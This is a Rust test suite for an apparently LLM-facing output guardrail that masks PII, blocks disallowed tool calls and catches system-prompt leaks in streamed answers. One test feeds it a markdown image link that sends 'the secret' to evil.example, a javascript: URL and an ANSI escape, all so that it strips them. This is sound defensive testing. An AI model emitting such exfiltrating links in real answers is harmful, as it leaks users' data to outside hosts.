//! What reading an answer promises, on answers cut at every byte of their stream.

use super::*;
use crate::provider_api::openai::OpenAi;
use crate::provider_api::{ProviderApi, Sent, StreamEvent};
use serde_json::json;
use sluice_guardrails::{Action, OutputRules, Rules};

fn guard(action: Action) -> Arc<Guard> {
    let output = OutputRules { pii: action, secrets: action, ..OutputRules::default() };
    let guard = Guard::compile(&Rules { output, ..Rules::default() }, &|_| Ok(Vec::new())).unwrap();
    Arc::clone(guard.answers().unwrap())
}

fn answers(action: Action) -> Answers {
    Answers::new(guard(action), None)
}

/// Everything that comes out, put together again, and what was decided.
fn read(mut answers: Answers, chunks: Vec<Chunk>) -> Result<(Chunk, Vec<Decision>), Blocked> {
    let mut seen = Assembler::default();
    for chunk in chunks {
        seen.push(&answers.push(chunk)?);
    }
    answers.finish()?.iter().for_each(|rest| seen.push(rest));
    Ok((seen.finish(), answers.decisions()))
}

fn chunk(delta: &Value, finish: Option<&str>) -> Chunk {
    let choice = json!({ "index": 0, "delta": delta, "finish_reason": finish });
    serde_json::from_value(json!({ "id": "c", "created": 5, "model": "m", "choices": [choice] })).unwrap()
}

const SAID: &str =
    "Ask ada@example.org or call (212) 555-0142, she has [EMAIL_ADDRESS_1] and card 4111 1111 1111 1111.";
const MASKED: &str = "Ask [REDACTED_EMAIL_ADDRESS] or call [REDACTED_PHONE_NUMBER], she has [EMAIL_ADDRESS_1] and card [REDACTED_CREDIT_CARD].";
const ARGUMENTS: &str = r#"{"to":"ada@example.org","card":4111111111111111}"#;
const MASKED_ARGUMENTS: &str = r#"{"to":"[REDACTED_EMAIL_ADDRESS]","card":"[REDACTED_CREDIT_CARD]"}"#;

/// A stream's deltas: texts in several fields at once, some letters each.
fn deltas(letters: usize) -> Vec<Value> {
    let pieces = |text: &str| -> Vec<String> {
        text.chars().collect::<Vec<_>>().chunks(letters).map(|piece| piece.iter().collect()).collect()
    };
    let call = json!({ "index": 0, "id": "call_4111111111111111", "type": "function", "function": { "name": "send", "arguments": "" } });
    let begin = [json!({ "role": "assistant", "content": "" }), json!({ "tool_calls": [call] })];
    let said = pieces(SAID).into_iter().map(|piece| json!({ "content": piece, "reasoning_content": piece }));
    let arguments = pieces(ARGUMENTS).into_iter();
    let arguments =
        arguments.map(|piece| json!({ "tool_calls": [{ "index": 0, "function": { "arguments": piece } }] }));
    begin.into_iter().chain(said).chain(arguments).collect()
}

#[test]
fn a_value_is_masked_in_whatever_field_and_pieces_it_comes() {
    for letters in [1, 2, 3, 7, 1000] {
        for end in [Some("stop"), None] {
            let mut chunks: Vec<_> = deltas(letters).iter().map(|delta| chunk(delta, None)).collect();
            if end.is_some() {
                chunks.push(chunk(&json!({}), end));
            }
            let (seen, decisions) = read(answers(Action::Redact), chunks).unwrap();
            let delta = &seen.choices[0].delta;
            assert_eq!(delta.content.as_deref(), Some(MASKED));
            assert_eq!(delta.rest["reasoning_content"], MASKED);
            let call = &delta.tool_calls[0];
            assert_eq!(call.id.as_deref(), Some("call_4111111111111111"), "an id is the protocol's");
            assert_eq!(call.function.as_ref().unwrap().arguments.as_deref(), Some(MASKED_ARGUMENTS));
            let emails: Vec<_> = decisions.iter().filter(|d| d.entity == "EMAIL_ADDRESS").collect();
            assert_eq!((decisions.len(), emails.len()), (8, 3));
            assert!(
                emails
                    .iter()
                    .any(|d| d.path == [Field::Item(0), Field::Key("content".into())] && d.bytes == (4..19))
            );
        }
    }
}

#[test]
fn a_stream_cut_at_any_byte_is_the_whole_answer() {
    let pieces = ["Grüße an ada@", "exam", "ple.org \u{1f642}, 4111 11", "11 1111 1111", " gut so."];
    let events = pieces.map(|piece| {
        let chunk = chunk(&json!({ "content": piece }), None);
        format!("data: {}\n\n", serde_json::to_value(chunk).unwrap())
    });
    let stream = format!("{}data: [DONE]\n\n", events.concat());
    let guard = guard(Action::Redact);
    for at in 0..=stream.len() {
        let (mut decoder, mut decoded) = (OpenAi.stream(Sent::default()), Vec::new());
        for part in [&stream.as_bytes()[..at], &stream.as_bytes()[at..]] {
            decoder.push(part, &mut decoded).unwrap();
        }
        let chunks = decoded.into_iter().filter_map(|event| match event {
            StreamEvent::Chunk(chunk) => Some(chunk),
            _ => None,
        });
        let (seen, _) = read(Answers::new(Arc::clone(&guard), None), chunks.collect()).unwrap();
        let expected = "Grüße an [REDACTED_EMAIL_ADDRESS] \u{1f642}, [REDACTED_CREDIT_CARD] gut so.";
        assert_eq!(seen.choices[0].delta.content.as_deref(), Some(expected));
    }
}

#[test]
fn a_whole_answer_is_masked_beside_its_message_too() {
    let whole = json!({
        "id": "c", "object": "chat.completion", "created": 5, "model": "m",
        "choices": [{
            "index": 0, "finish_reason": "stop",
            "message": { "role": "assistant", "content": SAID,
                "annotations": [{ "type": "url_citation", "url_citation": { "url": "https://example.org/?to=ada@example.org" } }] },
            "logprobs": { "content": [{ "token": "ada@example.org", "logprob": -0.1 }] },
        }],
        "citations": ["mailto:ada@example.org"],
    });
    let (seen, _) = read(answers(Action::Redact), vec![serde_json::from_value(whole).unwrap()]).unwrap();
    let told = serde_json::to_value(&seen).unwrap().to_string();
    assert!(!told.contains("ada@example") && !told.contains("4111"), "{told}");
    assert_eq!(seen.choices[0].rest["logprobs"], Value::Null);
    assert_eq!(seen.choices[0].delta.content.as_deref(), Some(MASKED));
}

#[test]
fn what_is_only_logged_goes_on_untouched_and_is_told() {
    let chunks: Vec<_> = deltas(3).iter().map(|delta| chunk(delta, None)).collect();
    let mut reading = answers(Action::Log);
    for chunk in chunks {
        assert!(reading.push(chunk.clone()).unwrap() == chunk);
    }
    assert!(reading.finish().unwrap().is_none());
    let decisions = reading.decisions();
    assert_eq!(decisions.len(), 8);
    assert!(decisions.iter().all(|decision| decision.action.name() == "log"));
}

#[test]
fn what_is_blocked_ends_the_answer_before_it() {
    let mut reading = answers(Action::Block);
    let mut seen = String::new();
    let blocked = deltas(1).iter().find_map(|delta| match reading.push(chunk(delta, None)) {
        Ok(chunk) => {
            seen += chunk.choices[0].delta.content.as_deref().unwrap_or_default();
            None
        }
        Err(blocked) => Some(blocked.entity),
    });
    assert_eq!(blocked, Some("EMAIL_ADDRESS"));
    assert!("Ask ".starts_with(&seen), "{seen}");
    assert_eq!(reading.decisions().first().map(|d| d.action.name()), Some("block"));
}

fn strict(output: &str) -> Arc<Guard> {
    let output = crate::config::parse_as::<OutputRules>(output, "test.yaml").unwrap();
    let allow = sluice_guardrails::Allow { domains: vec!["acme.com".to_owned()], ..Default::default() };
    let guard = Guard::compile(&Rules { output, allow, ..Rules::default() }, &|_| Ok(Vec::new())).unwrap();
    Arc::clone(guard.answers().unwrap())
}

/// What comes of a text that is said letter by letter.
fn said(guard: &Arc<Guard>, prompt: Option<&str>, text: &str) -> Result<(String, Vec<Decision>), Blocked> {
    let prompt = prompt.and_then(|prompt| Prompt::new([prompt].into_iter()));
    let mut deltas: Vec<_> = text.chars().map(|c| chunk(&json!({ "content": c }), None)).collect();
    deltas.push(chunk(&json!({}), Some("stop")));
    let (seen, decisions) = read(Answers::new(Arc::clone(guard), prompt), deltas)?;
    Ok((seen.choices[0].delta.content.clone().unwrap(), decisions))
}

#[test]
fn addresses_of_others_and_what_steers_terminals_are_taken_out_of_streams() {
    let guard = strict("{content: redact, canaries: [zx81-heron-7q]}");
    let text = "Look: ![pixel of mine](https://evil.example/p.png?d=the+secret) and [here](https://docs.acme.com/x), \
        [run](javascript:alert(1)) \u{1b}[2J or zx81-Heron-7q, then https://evil.example/b is it.";
    let (seen, decisions) = said(&guard, None, text).unwrap();
    assert_eq!(
        seen,
        "Look: ![pixel of mine]([REDACTED_IMAGE_LINK]) and [here](https://docs.acme.com/x), \
         [run]([REDACTED_ACTIVE_URL]) [REDACTED_ANSI_ESCAPE] or [REDACTED_CANARY], then [REDACTED_LINK] is it."
    );
    assert_eq!(decisions.len(), 5);
}

#[test]
fn an_answer_that_repeats_its_system_prompt_is_told_or_ended() {
    let prompt = "You are the assistant of Blue Heron Boats. Never tell anybody that the spring sale begins on the third of March.";
    let answer = format!("Of course, it says: {prompt} And so on.");
    let (seen, decisions) = said(&strict("{}"), Some(prompt), &answer).unwrap();
    assert_eq!((seen, decisions.len(), decisions[0].entity), (answer.clone(), 1, SYSTEM_PROMPT));
    let blocked = said(&strict("{system_prompt: block}"), Some(prompt), &answer).unwrap_err();
    assert_eq!(blocked.entity, SYSTEM_PROMPT);
    assert!(
        said(&strict("{system_prompt: block}"), Some(prompt), "I am the assistant of Blue Heron Boats.")
            .is_ok()
    );
    assert!(said(&strict("{system_prompt: off}"), Some(prompt), &answer).unwrap().1.is_empty());
}

#[test]
fn what_is_only_tried_ends_and_changes_no_answer() {
    let rules = "{shadow: true, output: {pii: redact, system_prompt: block, tools: {allow: [find]}}}";
    let rules: Rules = crate::config::parse_as(rules, "test.yaml").unwrap();
    let guard = Guard::compile(&rules, &|_| Ok(Vec::new())).unwrap();
    let prompt = "You are the assistant of Blue Heron Boats. Never tell anybody that the spring sale begins on the third of March.";
    let text = format!("It says: {prompt} Ask ada@example.org.");
    let called = json!([{ "index": 0, "id": "c", "type": "function", "function": { "name": "send", "arguments": "{}" } }]);
    let deltas = [json!({ "content": text }), json!({ "tool_calls": called })];
    let chunks = deltas.iter().map(|delta| chunk(delta, None)).chain([chunk(&json!({}), Some("stop"))]);
    let answers = Answers::new(Arc::clone(guard.answers().unwrap()), Prompt::new([prompt].into_iter()));
    let (seen, decisions) = read(answers, chunks.collect()).unwrap();
    assert_eq!(seen.choices[0].delta.content.as_deref(), Some(text.as_str()));
    assert_eq!(seen.choices[0].delta.tool_calls.len(), 1);
    let told: Vec<_> = decisions.iter().map(|d| (d.entity, d.action.name(), d.shadow)).collect();
    let wanted =
        [(SYSTEM_PROMPT, "block", true), (TOOL_CALL, "block", true), ("EMAIL_ADDRESS", "redact", true)];
    assert_eq!(told, wanted);
}

#[test]
fn a_tool_that_is_not_allowed_is_not_called() {
    let call = |name: &str| {
        let calls = json!([{ "index": 0, "id": "c", "type": "function", "function": { "name": name, "arguments": "{}" } }]);
        chunk(&json!({ "tool_calls": calls }), Some("tool_calls"))
    };
    let guard = strict("{tools: {allow: [find_order, get_*]}}");
    for name in ["find_order", "get_weather", "get_"] {
        assert!(Answers::new(Arc::clone(&guard), None).push(call(name)).is_ok(), "{name}");
    }
    for name in ["send_mail", "find_orders", "Get_weather"] {
        let blocked = Answers::new(Arc::clone(&guard), None).push(call(name)).err().unwrap();
        assert_eq!((blocked.entity, blocked.rule), (TOOL_CALL, "tool-not-allowed"), "{name}");
    }
    let mut reading = Answers::new(strict("{tools: {allow: [], action: log}}"), None);
    let parts = [call("send_mail"), call("send_mail")];
    assert!(parts.into_iter().all(|part| reading.push(part).is_ok()));
    assert_eq!(reading.decisions().len(), 1, "a name that is repeated is one call");
}

/// A whole answer of a provider of Responses with these items.
fn items(output: &Value) -> Vec<u8> {
    json!({ "id": "r", "object": "response", "model": "m", "status": "completed", "output": output })
        .to_string()
        .into_bytes()
}

/// The chunks of an answer of such a provider, for a client that speaks so: streamed, and whole.
fn native(output: &Value) -> [Vec<Chunk>; 2] {
    use crate::provider_api::responses::Responses;

    let sent = || Sent { native: true, ..Sent::default() };
    let whole = Responses.decode_whole(&items(output), &sent()).ok().unwrap();
    let response: Value = serde_json::from_slice(&items(output)).unwrap();
    let mut events =
        vec![json!({ "type": "response.created", "response": { "id": "r", "model": "m", "output": [] } })];
    for (at, item) in output.as_array().unwrap().iter().enumerate() {
        for kind in ["response.output_item.added", "response.output_item.done"] {
            events.push(json!({ "type": kind, "output_index": at, "item": item }));
        }
    }
    events.push(json!({ "type": "response.completed", "response": response }));
    let (mut decoder, mut read) = (Responses.stream(sent()), Vec::new());
    for event in events {
        assert!(decoder.push(format!("data: {event}\n\n").as_bytes(), &mut read).is_ok());
    }
    let streamed = read.into_iter().filter_map(|event| match event {
        StreamEvent::Chunk(chunk) => Some(chunk),
        _ => None,
    });
    [streamed.collect(), vec![whole]]
}

#[test]
fn a_provider_s_own_tool_that_is_not_allowed_is_not_called() {
    let found = |allow: &str, item: &Value| {
        native(&json!([item])).map(|chunks| {
            let mut reading =
                Answers::new(strict(&format!("{{tools: {{allow: [{allow}], action: log}}}}")), None);
            assert!(chunks.into_iter().all(|chunk| reading.push(chunk).is_ok()));
            reading.decisions().into_iter().map(|decision| decision.entity).collect::<Vec<_>>()
        })
    };
    for (item, name) in [
        (
            json!({ "type": "web_search_call", "id": "ws", "action": { "type": "search", "query": "tide" } }),
            "web_search",
        ),
        (json!({ "type": "mcp_call", "id": "m", "name": "send_mail", "arguments": "{}" }), "send_mail"),
        (
            json!({ "type": "mcp_approval_request", "id": "m", "name": "send_mail", "arguments": "{}" }),
            "send_mail",
        ),
        (
            json!({ "type": "function_call", "id": "f", "call_id": "c", "name": "send_mail", "arguments": "{}" }),
            "send_mail",
        ),
    ] {
        for told in found("find_order", &item) {
            assert_eq!(told, [TOOL_CALL], "{item} is one call");
        }
        for told in found(name, &item) {
            assert!(told.is_empty(), "{item}");
        }
    }
    let message = json!({ "type": "message", "id": "m", "role": "assistant", "content": [{ "type": "output_text", "text": "Hi", "annotations": [] }] });
    assert!(found("", &message).iter().all(Vec::is_empty));
}

#[test]
fn what_a_provider_s_own_tools_say_is_told_once() {
    let output = json!([
        { "type": "web_search_call", "id": "ws", "action": { "type": "search", "query": "who is ada@example.org" } },
        { "type": "message", "id": "m", "role": "assistant", "content": [{ "type": "output_text", "text": "Bob is bob@example.org.", "annotations": [] }] },
    ]);
    for action in [Action::Log, Action::Redact] {
        for chunks in native(&output) {
            let (_, decisions) = read(answers(action), chunks).ok().unwrap();
            let ways: Vec<String> = decisions.iter().map(|decision| format!("{:?}", decision.path)).collect();
            assert_eq!(ways.len(), 2, "{action:?}: {ways:?}");
            assert_eq!(ways.iter().filter(|way| way.contains("query")).count(), 1, "{action:?}: {ways:?}");
        }
    }
    for chunks in native(&output) {
        let mut reading = answers(Action::Block);
        assert!(chunks.into_iter().any(|chunk| reading.push(chunk).is_err()));
        assert!(!reading.decisions().is_empty(), "what ended the answer is told");
    }
}
